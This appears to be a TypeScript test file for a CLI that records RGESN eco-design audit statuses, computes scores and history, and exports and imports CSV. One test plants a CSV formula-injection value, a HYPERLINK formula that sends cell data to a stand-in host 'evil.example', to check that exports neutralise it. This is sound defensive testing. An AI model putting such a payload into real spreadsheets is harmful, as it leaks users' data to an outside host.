import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { scoreHistory } from '../../src/rgesn/status.js';
import { openStore } from '../../src/store/database.js';
import { getSiteByCode } from '../../src/store/sites.js';
import { numresp } from './cli.js';

let dir: string;
let db: string;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'numresp-rgesn-'));
  db = join(dir, 'r.db');
  process.exitCode = undefined;
});
afterEach(() => {
  rmSync(dir, { recursive: true, force: true });
  process.exitCode = undefined;
});

const set = (criterion: string, status: string, ...rest: string[]) =>
  numresp('rgesn', 'set', 'PORTAIL', criterion, '--db', db, '--status', status, '--author', 'Alice', ...rest);

test('list --theme --json gives the verbatim fields', async () => {
  const json = JSON.parse(await numresp('rgesn', 'list', '--theme', 'Backend', '--json'));
  expect(json.criteria.map((c: { id: string }) => c.id)).toEqual(['7.1', '7.2', '7.3', '7.4']);
  expect(json.criteria[0]).toMatchObject({ theme: 'Backend', priority: 'Recommandé', difficulty: 'Moyen' });
  expect(json.criteria[0].testMethod.length).toBeGreaterThan(20);
  expect(json.attribution).toMatch(/Licence Ouverte 2\.0/);
});

test('set refuses an unknown criterion with the closest ids, and non-applicable without justification', async () => {
  await expect(set('2.11', 'conforme')).rejects.toThrow(/closest: 2\.10, 2\.9, 2\.8/);
  await expect(set('9.1', 'non-applicable')).rejects.toThrow(/--justification is required when the status is non-applicable/);
  await set('9.1', 'non-applicable', '--justification', "pas d'algorithme d'IA");
  const status = JSON.parse(await numresp('rgesn', 'status', 'PORTAIL', '--db', db, '--json'));
  expect(status.criteria.find((c: { id: string }) => c.id === '9.1')).toMatchObject({ status: 'non-applicable', source: 'auditor', justification: "pas d'algorithme d'IA" });
});

test('status --json: the shape of the issue and the score computed by hand', async () => {
  // Priorities from the file: 1.1 P, 1.2 P, 1.3 R, 2.3 R, 2.5 P, 9.1 P. 78 criteria, 30 P + 29 R + 19 M.
  await set('1.1', 'conforme', '--justification', 'ODD 11');
  await set('1.3', 'conforme', '--justification', 'référente identifiée');
  await set('2.5', 'conforme', '--evidence', 'tests 1200 px');
  await set('1.2', 'non-conforme');
  await set('2.3', 'non-conforme');
  await set('9.1', 'non-applicable', '--justification', 'aucun algorithme');
  const s = JSON.parse(await numresp('rgesn', 'status', 'PORTAIL', '--db', db, '--json'));
  expect(Object.keys(s)).toEqual(['service', 'at', 'score', 'weightedScore', 'counts', 'criteria']);
  expect(s.service).toBe('PORTAIL');
  expect(s.counts).toEqual({ conforme: 3, nonConforme: 2, nonApplicable: 1, aEvaluer: 72 });
  // 3 conformant of 78 − 1 applicable.
  expect(s.score).toBeCloseTo(3 / 77, 12);
  // Weighted (our choice P=3 R=2 M=1): met 3+2+3 = 8; applicable 30·3 + 29·2 + 19·1 − 3 = 164.
  expect(s.weightedScore).toBeCloseTo(8 / 164, 12);
  expect(s.criteria).toHaveLength(78);
  for (const key of ['id', 'theme', 'status', 'source', 'justification', 'evidence', 'proposal']) expect(s.criteria[0]).toHaveProperty(key);
  expect(s.criteria.find((c: { id: string }) => c.id === '4.1')).toMatchObject({ status: 'a-evaluer', source: null, proposal: null });
});

test('history is append-only; the score at each dated assessment gives the previous score', async () => {
  await set('1.1', 'conforme', '--justification', 'ODD', '--date', '2026-03-01T09:00:00Z');
  await set('1.2', 'non-conforme', '--date', '2026-03-01T10:00:00Z');
  await set('1.2', 'conforme', '--justification', 'personas faits', '--date', '2026-09-01T09:00:00Z');
  await set('9.1', 'non-applicable', '--justification', 'pas d’IA', '--date', '2026-09-01T10:00:00Z');
  // Same decision again: nothing appended.
  expect(await set('9.1', 'non-applicable', '--justification', 'pas d’IA', '--date', '2026-09-01T11:00:00Z')).toMatch(/nothing appended/);
  const history = JSON.parse(await numresp('rgesn', 'history', 'PORTAIL', '1.2', '--db', db, '--json'));
  expect(history.map((h: { status: string }) => h.status)).toEqual(['non-conforme', 'conforme']);
  const store = openStore(db);
  try {
    const points = scoreHistory(store, getSiteByCode(store, 'PORTAIL')!);
    expect(points.map((p) => p.date)).toEqual(['2026-03-01', '2026-09-01']);
    expect(points[0].score).toBeCloseTo(1 / 78, 12);
    expect(points[1].score).toBeCloseTo(2 / 77, 12);
  } finally {
    store.close();
  }
});

test('export → fill in → import: French headers, ";", formula cells neutralised and restored, bad rows listed', async () => {
  const hostile = '=HYPERLINK("http://evil.example/?"&A1,"clic")';
  await set('1.3', 'conforme', '--justification', hostile);
  const file = join(dir, 'rgesn.csv');
  await numresp('rgesn', 'export', 'PORTAIL', file, '--db', db);
  const text = readFileSync(file, 'utf8');
  const lines = text.split('\r\n');
  expect(lines[0]).toBe("Critère;Thématique;Question;Priorité;Difficulté;Statut;Justification;Preuves;Auteur;Date d'évaluation;Proposition numresp;Éléments de la proposition;Source du référentiel");
  expect(lines).toHaveLength(78 + 2);
  // No cell of the file starts with a formula character once unquoted.
  const row13 = lines.find((l) => l.startsWith('1.3;'))!;
  expect(row13).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""clic"")"`);
  expect(row13).toContain(';Conforme;');
  // Fill in two rows as an auditor would in a spreadsheet, one with an unknown id.
  const filled = [
    lines[0],
    ...lines.slice(1).map((l) => (l.startsWith('2.1;') ? l.replace(/^(([^;]*;){5})/, '$1Non conforme') : l)),
    '2.42;Spécifications;x;x;x;Conforme;;;;;;;',
  ].join('\r\n');
  writeFileSync(file, filled);
  const report = JSON.parse(await numresp('rgesn', 'import', 'PORTAIL', file, '--db', db, '--json'));
  expect(report).toMatchObject({ delimiter: ';', recorded: 1, unchanged: 1, skipped: 76 });
  // Line 81: header, 78 criteria, the export's final empty line, then the added row.
  expect(report.rejected).toEqual([{ line: 81, reason: expect.stringMatching(/no RGESN 2024 criterion "2\.42"; closest: 2\.10, 2\.9, 2\.8/) }]);
  expect(process.exitCode).toBe(1);
  const s = JSON.parse(await numresp('rgesn', 'status', 'PORTAIL', '--db', db, '--json'));
  expect(s.criteria.find((c: { id: string }) => c.id === '1.3').justification).toBe(hostile);
  expect(s.criteria.find((c: { id: string }) => c.id === '2.1').status).toBe('non-conforme');
});
